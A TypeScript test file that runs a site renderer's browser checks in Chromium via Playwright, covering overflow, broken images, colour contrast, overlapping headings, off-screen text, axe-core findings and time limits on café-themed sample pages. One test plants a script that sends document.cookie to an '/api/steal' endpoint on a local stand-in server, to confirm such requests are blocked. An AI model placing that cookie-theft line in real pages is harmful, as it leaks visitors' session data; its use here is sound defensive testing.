// The checks in the browser of issue 28 (shared/rendering/checks) in real Chromium, with pages
// served from memory at the renderer's origin by page.route exactly as the renderer serves them:
// each rule finds the fault built into a page and names it by selector, a clean page of the usual
// parts gives no problem at all at either device, a request to an outside address is reported and
// never arrives, and a page of 20,000 elements is checked in bounded time.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import t from 'tap';
import { RENDER_VIEWPORTS, type RenderDevice, type RenderedProblem } from '../../shared/jobs/rendered-checks.ts';
import {
  AXE_TIME_LIMIT_MS,
  blockWebSockets,
  checkRenderedPage,
  type PageEvents,
  recordPageEvents,
  SITE_ORIGIN,
} from '../../shared/rendering/checks/rendered-checks.ts';
import { axeFindings } from '../../shared/rendering/checks/axe-findings.ts';
import { launchBrowser } from '../support/site-quality/browser-checks.ts';

t.setTimeout(120_000);
const browser: Browser = await launchBrowser();
t.teardown(() => browser.close());

const TYPES: Record<string, string> = { html: 'text/html', css: 'text/css', js: 'text/javascript', svg: 'image/svg+xml' };

/** Milliseconds the last checkRenderedPage call took (navigation not counted). */
let lastCheckMs = 0;

/** Opens `files[pagePath]` as the renderer does (files served at its origin, nothing else) and hands it to `use`. */
async function withPage<T>(
  files: Record<string, string>,
  device: RenderDevice,
  pagePath: string,
  use: (page: Page, events: PageEvents) => Promise<T>,
): Promise<T> {
  const context = await browser.newContext({ viewport: RENDER_VIEWPORTS[device] });
  try {
    const page = await context.newPage();
    await page.route('**/*', (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== SITE_ORIGIN) return route.abort('blockedbyclient');
      const path = url.pathname.slice(1) || 'index.html';
      const body = files[path];
      if (body === undefined) return route.fulfill({ status: 404, contentType: 'text/plain', body: 'not found' });
      return route.fulfill({ status: 200, contentType: TYPES[path.split('.').pop() ?? ''] ?? 'application/octet-stream', body });
    });
    const events = recordPageEvents(page);
    await blockWebSockets(page, events);
    await page.goto(`${SITE_ORIGIN}/${pagePath}`, { waitUntil: 'load' });
    return await use(page, events);
  } finally {
    await context.close();
  }
}

/** Renders `files[pagePath]` as the renderer does and returns the problems found. */
function check(files: Record<string, string>, device: RenderDevice, pagePath = 'index.html'): Promise<RenderedProblem[]> {
  return withPage(files, device, pagePath, async (page, events) => {
    const started = performance.now();
    const problems = await checkRenderedPage(page, pagePath, device, events);
    lastCheckMs = performance.now() - started;
    return problems;
  });
}

const html = (body: string, head = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">` +
  `<title>Harbour Lights</title><style>body { margin: 0; font: 16px/1.5 sans-serif; color: #222; background: #fff; }</style>${head}</head>` +
  `<body>${body}</body></html>`;
const main = (inner: string) => `<main><h1>Harbour Lights Café</h1><p>Coffee and cake by the water.</p>${inner}</main>`;
const withRule = (problems: RenderedProblem[], rule: string) => problems.filter((p) => p.rule === rule);
const LOGO =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="18" fill="#1e5aa8"/></svg>';

const CLEAN = html(
  `<a class="skip" href="#content">Skip to content</a>
<header class="site-header"><a href="index.html"><img src="logo.svg" alt="Harbour Lights" width="40" height="40"></a>
<nav aria-label="Main"><ul><li><a href="index.html">Home</a></li><li><a href="menu.html">Menu</a></li><li><a href="visit.html">Visit</a></li></ul></nav></header>
<main id="content"><h1>Harbour Lights Café</h1>
<p>A small café on the harbour wall, open every day from eight. <span class="sr-only">Wheelchair access by the side door.</span></p>
<section><h2>Today</h2><p>Flat white, cinnamon scones and a view of the boats.</p>
<p class="muted">Prices include service.</p><button type="button" class="cta">Order ahead</button></section>
<form><h2>Book a table</h2><label for="name">Name</label><input id="name" name="name" type="text" autocomplete="name">
<label for="when">Date</label><input id="when" name="when" type="date"><button type="submit" class="cta">Book</button></form></main>
<footer><p>© 2026 Harbour Lights · <a href="visit.html">Find us</a></p></footer>`,
  `<style>
.skip { position: absolute; left: -9999px; } .skip:focus { left: 1rem; }
.sr-only { position: absolute; width: 1px; height: 1px; overflow: hidden; clip: rect(0 0 0 0); white-space: nowrap; }
.site-header { display: flex; flex-wrap: wrap; gap: 1rem; align-items: center; padding: 1rem; background: #0b3d6e; color: #fff; }
.site-header a { color: #fff; } nav ul { display: flex; gap: 1rem; list-style: none; margin: 0; padding: 0; }
main { max-width: 40rem; margin: 0 auto; padding: 1rem; } h1 { font-size: 2rem; color: #0b3d6e; }
.muted { color: #595959; } label, input { display: block; max-width: 100%; } input { margin-bottom: 1rem; }
.cta { background: #0b3d6e; color: #fff; border: 0; padding: .6rem 1rem; }
footer { padding: 1rem; background: #f2f2f2; color: #333; } footer a { color: #0b3d6e; }
</style>`,
);

t.test('a clean, well-built page has no problem at either device', async (t) => {
  for (const device of ['phone', 'desktop'] as const) {
    const problems = await check({ 'index.html': CLEAN, 'logo.svg': LOGO }, device);
    t.same(problems, [], `no problems on ${device}`);
  }
});

// The usual tricks of a landing page, none of them a fault: a fixed header with the body padded
// below it, an off-canvas drawer, white text on a hero image, a carousel clipped by its track, a
// wide table in a scrolling box, closed details and dialog, a lazy image below the fold.
const LANDING = html(
  `<header class="bar"><a href="index.html" class="brand">Harbour Lights</a><button type="button" class="menu" aria-label="Menu">☰</button></header>
<nav class="drawer" aria-label="Main"><a href="index.html">Home</a><a href="menu.html">Menu</a><p>Open 8 to 6</p></nav>
<main><section class="hero"><h1>Harbour Lights Café</h1><p>Coffee and cake by the water.</p></section>
<h2 class="visually-hidden">Our rooms</h2>
<div class="track"><div class="slide"><p>Sea views.</p></div><div class="slide"><p>Warm scones.</p></div><div class="slide"><p>Local beans.</p></div></div>
<div class="scroll" tabindex="0" role="region" aria-label="Prices by day"><table><tr><th>Item</th><th>Monday</th><th>Tuesday</th><th>Wednesday</th><th>Thursday</th><th>Friday</th><th>Saturday</th></tr>
<tr><td>Scones</td><td>£2.50</td><td>£2.50</td><td>£2.50</td><td>£2.50</td><td>£2.50</td><td>£3.00</td></tr></table></div>
<details><summary>Allergens</summary><p>Nuts, gluten, milk.</p></details><dialog><p>Booked!</p></dialog>
<p class="link">https://harbourlights.example/menu/seasonal/autumn/2026/specials-and-more</p>
<img src="logo.svg" alt="Our logo" width="40" height="40" loading="lazy" style="margin-top: 1500px"></main>`,
  `<style>
body { padding-top: 64px; } .bar { position: fixed; top: 0; left: 0; right: 0; height: 48px; display: flex; justify-content: space-between; align-items: center; padding: 8px 16px; background: #fff; box-shadow: 0 1px 4px #0003; }
.brand { color: #0b3d6e; } .menu { background: #0b3d6e; color: #fff; border: 0; }
.drawer { position: fixed; top: 0; left: 0; width: 260px; height: 100%; transform: translateX(-100%); background: #0b3d6e; } .drawer a, .drawer p { display: block; color: #fff; padding: 1rem; }
.hero { background: url(logo.svg) center / cover; color: #fff; padding: 2rem 1rem; } .hero h1 { color: #fff; margin: 0; }
.visually-hidden { position: absolute; width: 1px; height: 1px; margin: -1px; overflow: hidden; clip-path: inset(50%); white-space: nowrap; }
.track { display: flex; overflow: hidden; } .slide { flex: 0 0 100%; } .scroll { overflow-x: auto; } table { white-space: nowrap; }
.link { overflow-wrap: anywhere; } main { padding: 0 1rem; }
</style>`,
);

t.test('a landing page with the usual tricks has no problem at either device', async (t) => {
  for (const device of ['phone', 'desktop'] as const) {
    const problems = await check({ 'index.html': LANDING, 'logo.svg': LOGO }, device);
    t.same(problems, [], `no problems on ${device}`);
  }
});

t.test('a page wider than a phone: horizontal-overflow names the wide element, at 375 px only', async (t) => {
  const files = { 'index.html': html(main('<section><div class="price-table" style="width: 900px">Flat white £3.20</div></section>')) };
  const phone = withRule(await check(files, 'phone'), 'horizontal-overflow');
  t.equal(phone.length, 1, 'one cause: the table, not the text inside it');
  t.match(phone[0], { page: 'index.html', device: 'phone', selector: /div\.price-table$/, message: /900 px wide in a 375 px viewport/ });
  t.same(withRule(await check(files, 'desktop'), 'horizontal-overflow'), [], 'fits at 1280 px');
});

t.test('a broken image: broken-image names the img and its src; the missing file is a failed-request', async (t) => {
  const problems = await check(
    { 'index.html': html(main('<img id="boats" src="images/boats.png" alt="Boats in the harbour">')) },
    'desktop',
  );
  const broken = withRule(problems, 'broken-image');
  t.equal(broken.length, 1);
  t.match(broken[0], { selector: '#boats', message: /images\/boats\.png/ });
  const failed = withRule(problems, 'failed-request');
  t.equal(failed.length, 1);
  t.match(failed[0], { selector: '', message: /images\/boats\.png failed: HTTP 404/ });
});

t.test('a missing stylesheet is a failed-request', async (t) => {
  const problems = await check({ 'index.html': html(main(''), '<link rel="stylesheet" href="styles/site.css">') }, 'phone');
  t.match(problems, [{ rule: 'failed-request', message: `${SITE_ORIGIN}/styles/site.css failed: HTTP 404` }]);
  t.equal(problems.length, 1, 'and nothing else');
});

t.test('low-contrast text: color-contrast names it; dark text on white passes', async (t) => {
  const low = await check({ 'index.html': html(main('<p class="faint" style="color: #999">Open every day from eight.</p>')) }, 'desktop');
  const faint = withRule(low, 'color-contrast');
  t.equal(faint.length, 1);
  t.match(faint[0], {
    selector: 'body > main > p.faint:nth-of-type(2)',
    message: /#999999 on #ffffff has contrast 2\.85:1, below the 4\.5:1/,
  });
  const good = await check({ 'index.html': html(main('<p class="dark" style="color: #222">Open every day from eight.</p>')) }, 'desktop');
  t.same(withRule(good, 'color-contrast'), []);
  // Large text needs 3:1 only: #888 (3.54:1) at 32 px passes, at 16 px it does not.
  const large = await check({ 'index.html': html(main('<p class="big" style="color: #888; font-size: 32px">Scones</p>')) }, 'desktop');
  t.same(withRule(large, 'color-contrast'), [], 'large text at 3.54:1 passes');
});

t.test('text on a panel placed behind it (no ancestor) is measured against the panel', async (t) => {
  // White text over a dark sibling panel: the ancestors say white on white, the page shows white on navy.
  const page = html(
    main(`<div style="position: relative; height: 120px">
<div style="position: absolute; inset: 0; background: #0b3d6e"></div>
<p class="over" style="position: relative; color: #fff; margin: 0; padding: 1rem">Sea views from every table.</p></div>`),
  );
  t.same(withRule(await check({ 'index.html': page }, 'desktop'), 'color-contrast'), []);
});

t.test('a page that reaches for an outside address: blocked-request, and nothing arrives', async (t) => {
  let arrived = 0;
  const outside = createServer((_request, response) => {
    arrived++;
    response.end('{}');
  });
  outside.on('upgrade', (_request, socket) => {
    arrived++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  t.teardown(() => outside.close());
  const target = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const problems = await check(
    {
      'index.html': html(
        main(`<img src="${target}/pixel.gif" alt="" width="1" height="1">`),
        `<script>fetch('${target}/api/steal?c=' + document.cookie).catch(() => {});
new WebSocket('${target.replace('http', 'ws')}/socket').onerror = () => {};</script>`,
      ),
    },
    'desktop',
  );
  const blocked = withRule(problems, 'blocked-request').map((p) => p.message);
  t.ok(
    blocked.some((m) => m.includes('/api/steal')),
    'the fetch is named',
  );
  t.ok(
    blocked.some((m) => m.includes('/pixel.gif')),
    'the image is named',
  );
  t.ok(
    blocked.some((m) => m.includes('ws://127.0.0.1') && m.includes('/socket')),
    'the WebSocket is named',
  );
  await new Promise((resolve) => setTimeout(resolve, 200));
  t.equal(arrived, 0, 'the outside server saw no request');
});

t.test('console.error and an uncaught error are console-errors', async (t) => {
  const problems = await check(
    { 'index.html': html(main(''), `<script>console.error('menu failed to load'); throw new TypeError('cart is undefined');</script>`) },
    'phone',
  );
  t.same(
    withRule(problems, 'console-error').map((p) => [p.selector, p.message]),
    [
      ['', 'menu failed to load'],
      ['', 'Uncaught TypeError: cart is undefined'],
    ],
  );
});

t.test('an element over the main heading is overlaps-heading', async (t) => {
  const page = html(
    `<main style="position: relative"><h1 style="margin: 40px 0 0 20px">Harbour Lights Café</h1>
<div class="promo" style="position: absolute; top: 30px; left: 0; width: 600px; height: 80px; background: #ffd400"><p style="color: #000; margin: 0">Half price today</p></div></main>`,
  );
  const overlaps = withRule(await check({ 'index.html': page }, 'desktop'), 'overlaps-heading');
  t.equal(overlaps.length, 1, 'one element: the box placed there, not the text inside it');
  t.match(overlaps[0], { selector: 'body > main > div.promo', message: /painted over the main heading "Harbour Lights Café"/ });
});

t.test('text pushed 2000 px left is off-screen', async (t) => {
  const page = html(main('<p class="lost" style="position: absolute; left: -2000px">Opening hours: 8 to 6</p>'));
  const problems = await check({ 'index.html': page }, 'desktop');
  const lost = withRule(problems, 'off-screen');
  t.equal(lost.length, 1);
  t.match(lost[0], {
    selector: 'body > main > p.lost:nth-of-type(2)',
    message: /"Opening hours: 8 to 6" is placed \d+ px left of the page/,
  });
});

t.test("axe-core's serious findings are axe/<id>, even under a Content-Security-Policy", async (t) => {
  const page = html(
    main('<img class="photo" src="logo.svg" width="40" height="40">'),
    `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  );
  const problems = await check({ 'index.html': page, 'logo.svg': LOGO }, 'desktop');
  const alt = withRule(problems, 'axe/image-alt');
  t.equal(alt.length, 1);
  t.match(alt[0], { selector: 'img', message: /^critical: / });
});

t.test('a page of 20,000 elements is checked in bounded time', async (t) => {
  const rows = Array.from({ length: 10_000 }, (_, i) => `<p style="color: #999">Row <b>${i}</b></p>`).join('');
  const problems = await check({ 'index.html': html(main(rows)) }, 'phone');
  // The layout inspection looks at 5,000 elements (about a second here, most of it Chromium's own
  // style and layout of the page), and axe is cut off at its limit.
  t.ok(lastCheckMs < AXE_TIME_LIMIT_MS + 3_000, `checked in ${(lastCheckMs / 1000).toFixed(1)} s`);
  t.equal(withRule(problems, 'color-contrast').length, 10, 'contrast findings capped at 10');
  t.ok(problems.length <= 50, 'at most 50 problems');
});

t.test('axe-core is cut off at its time limit on a page where it would run long', async (t) => {
  // 60,000 elements: axe needs seconds for them (2 s to well over 10 s, by machine and load).
  const rows = Array.from({ length: 30_000 }, (_, i) => `<p>Row <b>${i}</b></p>`).join('');
  // Past the 5,000 elements the layout inspection looks at: not seen, so not reported.
  const beyond = '<p class="beyond" style="position: absolute; left: -2000px">Lost at the end</p>';
  const files = { 'index.html': html(main(rows + beyond)) };
  const problems = await check(files, 'desktop');
  t.same(problems, [], 'nothing made up, nothing looked at past 5,000 elements');
  // The cut-off itself, at a limit this page is sure to pass on any machine, after the page is laid
  // out (Chromium's own layout of 60,000 elements is not axe's time).
  const limit = 300;
  await withPage(files, 'desktop', 'index.html', async (page) => {
    await page.evaluate(() => document.body.getBoundingClientRect().height);
    const started = performance.now();
    t.equal(await axeFindings(page, limit), null, 'the run is cut off, and its findings left out');
    const ms = performance.now() - started;
    // Loading axe's 550 kB script into the page comes before the limit's clock starts.
    t.ok(ms < limit + 2_000, `axe-core was given up after ${(ms / 1000).toFixed(1)} s`);
  });
  // On a page of the usual size it finishes within the renderer's limit and reports: not cut off.
  const small = await withPage({ 'index.html': html(main('<img src="logo.svg">')), 'logo.svg': LOGO }, 'desktop', 'index.html', (page) =>
    axeFindings(page),
  );
  t.match(small, [{ id: 'image-alt' }], 'a small page is checked to the end');
});
